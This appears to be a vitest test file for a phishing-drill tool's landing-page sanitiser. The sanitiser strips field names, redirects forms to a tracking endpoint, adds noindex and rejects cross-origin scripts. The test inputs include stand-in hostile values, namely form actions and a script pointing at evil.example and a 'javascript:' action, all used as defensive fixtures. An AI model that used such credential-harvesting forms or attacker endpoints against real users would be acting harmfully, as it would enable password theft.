import { describe, expect, it } from 'vitest';
import { LandingError, sanitiseLanding } from '../../src/phishing/landing.js';

const action = 'https://drills.example.org/s/abc123';

describe('sanitising a landing page', () => {
  it('strips field names, points the form at the tracking action and adds noindex, warning for each change', () => {
    const html = [
      '<html><head><title>Sign in</title></head><body>',
      '<form action="https://evil.example/steal" method="get">',
      '  <input type="password" name="password">',
      '  <button name="go" type="submit">Go</button>',
      '</form></body></html>',
    ].join('\n');
    const { html: safe, warnings } = sanitiseLanding(html, { trackingAction: action });
    expect(safe).toBe(
      [
        '<html><head><meta name="robots" content="noindex"><title>Sign in</title></head><body>',
        `<form action="${action}" method="post">`,
        '  <input type="password">',
        '  <button type="submit">Go</button>',
        '</form></body></html>',
      ].join('\n'),
    );
    expect(warnings.map((warning) => `${warning.line}:${warning.column} ${warning.message}`)).toEqual([
      '1:13 <meta name="robots" content="noindex"> added: lures are never indexed',
      '2:7 <form> action="https://evil.example/steal" replaced: forms post to the tracking action only',
      '2:43 <form> method="get" replaced: forms post to the tracking action only',
      '3:26 <input> name="password" removed: field values never leave the browser',
      '4:11 <button> name="go" removed: field values never leave the browser',
    ]);
  });

  it('handles uppercase tags, unquoted and single-quoted attributes, and self-closing fields', () => {
    const html =
      '<FORM ACTION=/x><INPUT TYPE=text NAME=user><SELECT Name=\'c\'><option>a</option></SELECT><TextArea nAmE="t"></TextArea><input name=p /></FORM>';
    const { html: safe, warnings } = sanitiseLanding(html, { trackingAction: '/s/1' });
    expect(safe).toBe(
      '<meta name="robots" content="noindex"><FORM action="/s/1" method="post"><INPUT TYPE=text><SELECT><option>a</option></SELECT><TextArea></TextArea><input /></FORM>',
    );
    expect(warnings.filter((warning) => warning.message.includes('removed'))).toHaveLength(4);
  });

  it('leaves "name" inside another attribute value and in text alone', () => {
    const html =
      '<input placeholder="your name=here" data-x=\'name="p"\' value=name><p>name="x"</p><textarea><input name="inside"></textarea>';
    const { html: safe, warnings } = sanitiseLanding(html, { trackingAction: action });
    expect(safe).toBe(`<meta name="robots" content="noindex">${html}`);
    expect(warnings).toHaveLength(1);
  });

  it('removes every attribute that would send the form elsewhere', () => {
    const { html } = sanitiseLanding('<form><button formaction="https://evil.example" formmethod=get name=b>x</button></form>', {
      trackingAction: action,
    });
    expect(html).toBe(`<meta name="robots" content="noindex"><form action="${action}" method="post"><button>x</button></form>`);
  });

  it('keeps an existing noindex and puts a new one after the doctype', () => {
    expect(sanitiseLanding('<meta name="ROBOTS" content="noindex, nofollow"><p>x</p>', { trackingAction: action }).warnings).toEqual([]);
    expect(sanitiseLanding('<!doctype html><p>x</p>', { trackingAction: action }).html).toBe(
      '<!doctype html><meta name="robots" content="noindex"><p>x</p>',
    );
  });

  it('refuses scripts from other origins with their position, and keeps same-origin ones', () => {
    const html = '<p>x</p>\n<SCRIPT SRC="https://cdn.example.net/k.js"></SCRIPT><script src=//evil.example/a.js></script>';
    try {
      sanitiseLanding(html, { trackingAction: action, origin: 'https://drills.example.org' });
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(LandingError);
      expect((error as LandingError).problems.map((problem) => `${problem.line}:${problem.column}`)).toEqual(['2:9', '2:61']);
    }
    const kept = '<script src="/app.js"></script><script src="https://drills.example.org/b.js"></script><script>1</script>';
    expect(sanitiseLanding(kept, { trackingAction: action, origin: 'https://drills.example.org' }).html).toContain(kept);
  });

  it('refuses a tracking action that is not http(s) or a path', () => {
    expect(() => sanitiseLanding('<form></form>', { trackingAction: 'javascript:x' })).toThrow(/trackingAction/);
  });

  it('does not take a script body or a comment for tags', () => {
    const html = '<script>if (a<b) document.write("<input name=x>")</script><!-- <input name="y"> -->';
    expect(sanitiseLanding(html, { trackingAction: action }).html).toBe(`<meta name="robots" content="noindex">${html}`);
  });
});
